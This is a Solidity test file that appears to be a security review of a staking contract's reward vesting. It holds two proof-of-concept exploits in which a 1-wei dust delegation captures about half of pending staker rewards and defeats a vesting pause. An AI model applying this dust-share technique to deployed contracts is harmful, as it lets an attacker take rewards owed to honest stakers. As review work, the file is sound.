// SPDX-License-Identifier: MIT
pragma solidity ^0.8.28;

import {AgentStakingTestBase} from "./utils/AgentStakingTestBase.sol";

/// @dev Attack review of issue 13 (reward vesting). Each `test_Attack_` asserts the attack's
/// outcome: it passes while the attack works.
contract AgentStakingAttack13Test is AgentStakingTestBase {
    address internal attacker = makeAddr("attacker");
    uint256 internal agentId;

    function setUp() public override {
        super.setUp();
        agentId = _register(operator, 0);
    }

    /// An agent with no delegators has staker rewards waiting in the settlement (addRewards, and
    /// so claimStakerRewards, refuses while the pool has no shares). The attacker delegates 1 wei
    /// (1e6 shares: as many as the pool's virtual shares) and moves the rewards in (anyone may
    /// call claimStakerRewards): after the vesting period its 1 wei is worth half of them, the
    /// other half belongs to the virtual shares and is stranded for good. The "no delegators"
    /// guard and the vesting's "stake held through the window" are both defeated by dust stake.
    // ATTACK WORKS
    function test_Attack_DustDelegatorTakesHalfOfUnclaimedStakerRewards() public {
        uint256 rewards = 1_000e18;
        uint256 shares = _delegate(attacker, agentId, 1);
        assertEq(shares, 1e6, "1 wei buys as many shares as the virtual ones");
        _addRewards(stranger, agentId, rewards); // what claimStakerRewards does
        vm.warp(block.timestamp + REWARD_VESTING_PERIOD);

        uint256 id = _unbond(attacker, agentId, shares);
        uint256 taken = staking.previewWithdraw(id);
        assertApproxEqRel(taken, rewards / 2, 1e12, "1 wei of stake took half the rewards");
        // The rest is left in a pool with no shares: owned by the virtual shares, nobody's.
        assertEq(_agent(agentId).totalActiveShares, 0);
        assertApproxEqRel(_agent(agentId).totalActiveAssets, rewards / 2, 1e12, "half stranded");
        uint256 bobShares = _delegate(bob, agentId, 100e18);
        // No later staker gets it; each even loses up to a (now inflated) share's price to rounding.
        assertLe(staking.convertToAssets(agentId, bobShares), 100e18, "no later staker gets it");
    }

    /// The pause ("nothing vests while the pool has no shares", so the rewards left go to whoever
    /// stakes next) is defeated by keeping dust shares: the honest stakers leave with rewards
    /// still vesting, the attacker's 1 wei position keeps the pool "non-empty", and the rest
    /// vests half to the attacker and half to the virtual shares (stranded) instead of waiting.
    // ATTACK WORKS
    function test_Attack_DustSharesDefeatThePause() public {
        uint256 honest = _delegate(alice, agentId, 100e18);
        uint256 dust = _delegate(attacker, agentId, 1);
        assertGt(dust, 0);
        _addRewards(stranger, agentId, 1_000e18);
        vm.warp(block.timestamp + 1);
        _unbond(alice, agentId, honest); // alice leaves: ~all of the rewards still unvested
        (uint256 unvested,) = staking.rewardVesting(agentId);
        assertGt(unvested, 999e18);

        vm.warp(block.timestamp + REWARD_VESTING_PERIOD);
        (uint256 left,) = staking.rewardVesting(agentId);
        assertEq(left, 0, "vested into a pool held by dust: no pause");
        uint256 attackerWorth = staking.convertToAssets(agentId, dust);
        assertGt(attackerWorth, 400e18, "1 wei of stake took ~half of what was left vesting");
        // Bob, the next staker, who would have received what was left under the pause, gets none.
        uint256 bobShares = _delegate(bob, agentId, 100e18);
        vm.warp(block.timestamp + REWARD_VESTING_PERIOD);
        assertLe(staking.convertToAssets(agentId, bobShares), 100e18, "next staker gets nothing");
    }
}
